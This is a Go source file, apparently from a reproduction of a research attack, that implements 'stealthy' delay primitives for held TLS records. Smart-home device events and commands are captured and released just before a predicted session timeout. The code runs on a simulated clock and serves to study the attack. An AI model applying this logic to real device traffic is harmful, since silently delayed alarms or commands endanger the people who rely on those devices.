package core

import (
	"time"

	"repro/internal/simtime"
	"repro/internal/sniff"
)

// DelayOp is one armed delay: it waits for a matching record, holds it
// (and, by TLS ordering, everything behind it) and releases either after a
// fixed duration, at a predicted-timeout margin, or manually.
type DelayOp struct {
	h     *Hijacker
	match func(ClassifiedRecord) bool
	dir   sniff.Direction

	// The release strategy: manual, after holdFor, or, for an op armed
	// by MaxEDelay or MaxCDelay (predicted), margin before the predicted
	// close.
	holdFor   time.Duration
	predicted bool
	margin    time.Duration
	manual    bool

	bridge    *Bridge
	matched   bool
	matchedAt simtime.Time
	released  bool
	relTimer  *simtime.Timer
	cancelled bool
	// traceDetail labels the op's trace span (origin/kind of the captured
	// record), set at match time.
	traceDetail string

	// OnReleased fires when the hold ends, with the achieved delay.
	OnReleased func(held time.Duration)
}

// Matched reports whether the op has captured its record, and when.
func (op *DelayOp) Matched() (bool, simtime.Time) { return op.matched, op.matchedAt }

// Released reports whether the hold has ended.
func (op *DelayOp) Released() bool { return op.released }

// Release ends the hold now, flushing held records in order.
func (op *DelayOp) Release() {
	if !op.matched || op.released || op.cancelled {
		return
	}
	op.released = true
	if op.relTimer != nil {
		op.relTimer.Stop()
	}
	held := op.h.atk.Clock.Now() - op.matchedAt
	if m := op.h.atk.met; m.trace != nil {
		m.trace.Emit(op.h.atk.Clock.Now(), "core", "op_released", op.traceDetail, int64(held))
	}
	op.bridge.Release(op.dir)
	if op.OnReleased != nil {
		op.OnReleased(held)
	}
}

// Cancel disarms an op that has not matched yet (a matched op must be
// released instead).
func (op *DelayOp) Cancel() {
	if op.matched {
		return
	}
	op.cancelled = true
}

// arm registers the op with the hijacker's hold decision.
func (h *Hijacker) arm(op *DelayOp) *DelayOp {
	h.ops = append(h.ops, op)
	return op
}

// capture offers a record at the head of a flowing direction to the armed
// ops: the first unmatched op whose matcher accepts it captures it, and b
// holds it.
func (h *Hijacker) capture(b *Bridge, cr ClassifiedRecord) bool {
	for _, op := range h.ops {
		if op.cancelled || op.matched || op.dir != cr.Dir {
			continue
		}
		if !op.match(cr) {
			continue
		}
		op.matched = true
		op.matchedAt = h.atk.Clock.Now()
		op.bridge = b
		if m := h.atk.met; m.trace != nil {
			op.traceDetail = cr.Dir.String()
			if cr.Known {
				op.traceDetail = cr.Msg.Origin + "/" + cr.Msg.Kind.String()
			}
			m.trace.Emit(op.matchedAt, "core", "op_matched", op.traceDetail, int64(cr.WireLen))
		}
		h.scheduleRelease(op, cr)
		return true
	}
	return false
}

// armRelease (re)schedules the op's release at the given instant, reusing
// the op's timer allocation across rearms.
func (op *DelayOp) armRelease(at simtime.Time) {
	if op.relTimer == nil {
		op.relTimer = op.h.atk.Clock.NewTimer(op.Release)
	}
	op.relTimer.ResetAt(at)
}

func (h *Hijacker) scheduleRelease(op *DelayOp, cr ClassifiedRecord) {
	switch {
	case op.manual:
		// Caller releases.
	case op.holdFor > 0:
		op.armRelease(h.atk.Clock.Now() + op.holdFor)
	case op.predicted:
		kind := sniff.KindEvent
		if cr.Known {
			kind = cr.Msg.Kind
		} else if cr.Dir == sniff.DirServerToClient {
			kind = sniff.KindCommand
		}
		closeAt, bounded := h.predictor.PredictClose(op.matchedAt, kind)
		if !bounded {
			// No timeout exists; the hold is indefinite until the caller
			// releases (the HomeKit case).
			return
		}
		releaseAt := closeAt - op.margin
		if releaseAt <= h.atk.Clock.Now() {
			// The margin consumes the whole window: release as soon as the
			// record has been enqueued (never synchronously from inside the
			// hold decision, which runs before the record joins the queue).
			op.armRelease(h.atk.Clock.Now())
			return
		}
		op.armRelease(releaseAt)
	}
}

// matcherFor builds a record matcher from a fingerprint origin and kind.
func matcherFor(origin string, kind sniff.MsgKind) func(ClassifiedRecord) bool {
	return func(cr ClassifiedRecord) bool {
		return cr.Known && cr.Msg.Origin == origin && cr.Msg.Kind == kind
	}
}

// EDelay arms the event-message-delay primitive: the next event from the
// given origin device is held for the given duration, then released in
// order. A zero duration makes the hold manual.
func (h *Hijacker) EDelay(origin string, hold time.Duration) *DelayOp {
	return h.arm(&DelayOp{
		h:       h,
		dir:     sniff.DirClientToServer,
		match:   matcherFor(origin, sniff.KindEvent),
		holdFor: hold,
		manual:  hold == 0,
	})
}

// CDelay arms the command-message-delay primitive for the next command to
// the given origin device. A zero duration makes the hold manual.
func (h *Hijacker) CDelay(origin string, hold time.Duration) *DelayOp {
	return h.arm(&DelayOp{
		h:       h,
		dir:     sniff.DirServerToClient,
		match:   matcherFor(origin, sniff.KindCommand),
		holdFor: hold,
		manual:  hold == 0,
	})
}

// DelayKeepAlive arms a manual hold on the next device keep-alive (the
// profiling step 3 measurement).
func (h *Hijacker) DelayKeepAlive() *DelayOp {
	return h.arm(&DelayOp{
		h:      h,
		dir:    sniff.DirClientToServer,
		match:  func(cr ClassifiedRecord) bool { return cr.Known && cr.Msg.Kind == sniff.KindKeepAlive },
		manual: true,
	})
}

// MaxEDelay arms an event delay that releases margin before the predicted
// timeout — the maximum stealthy delay of Section IV-C. The hijacker's
// predictor must be armed. If the device has no bounding timeout the hold
// is indefinite until released manually.
func (h *Hijacker) MaxEDelay(origin string, margin time.Duration) *DelayOp {
	return h.arm(&DelayOp{
		h:         h,
		dir:       sniff.DirClientToServer,
		match:     matcherFor(origin, sniff.KindEvent),
		predicted: true,
		margin:    margin,
	})
}

// MaxCDelay is MaxEDelay for commands.
func (h *Hijacker) MaxCDelay(origin string, margin time.Duration) *DelayOp {
	return h.arm(&DelayOp{
		h:         h,
		dir:       sniff.DirServerToClient,
		match:     matcherFor(origin, sniff.KindCommand),
		predicted: true,
		margin:    margin,
	})
}
